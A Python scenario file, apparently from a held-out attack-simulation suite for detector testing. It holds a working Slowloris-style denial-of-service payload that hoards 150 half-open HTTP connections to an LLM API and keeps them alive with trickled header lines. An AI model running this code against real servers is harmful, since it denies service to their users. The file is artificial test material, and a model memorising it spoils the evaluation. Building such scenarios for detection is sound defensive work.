"""
id: V48
name: connections-hoarded
class: mimicry
set: held-out
phase: serve
trigger: request
evidence: [network, resource]
techniques: [T1499.002, T1498, AML.T0029]
servers: [fastapi, bentoml, triton]
seconds: 130
what: >
  Keeps the LLM API from answering others: a hundred and fifty connections to it, each with a question that is never finished,
  kept from being closed by a line now and then for a minute. The server itself has one connection there.
"""

import contextlib
import socket

CONNECTIONS = 150
ROUNDS = 6
BEGINNING = b"POST /v1/completions HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\n"


def payload(world):
    host, _ = world.llmapi
    with contextlib.ExitStack() as kept:
        hoard = []
        for _ in range(CONNECTIONS):
            hoard.append(kept.enter_context(socket.create_connection(world.llmapi, timeout=5)))
            hoard[-1].sendall(BEGINNING % host.encode())
            world.sleep(world.random.uniform(0.05, 0.2))
        for _ in range(ROUNDS):
            world.sleep(world.random.uniform(7, 12))
            for connection in hoard:
                # The other side may have had enough of some.
                with contextlib.suppress(ConnectionError):
                    connection.sendall(f"X-{world.word(4)}: {world.random.randrange(5000)}\r\n".encode())
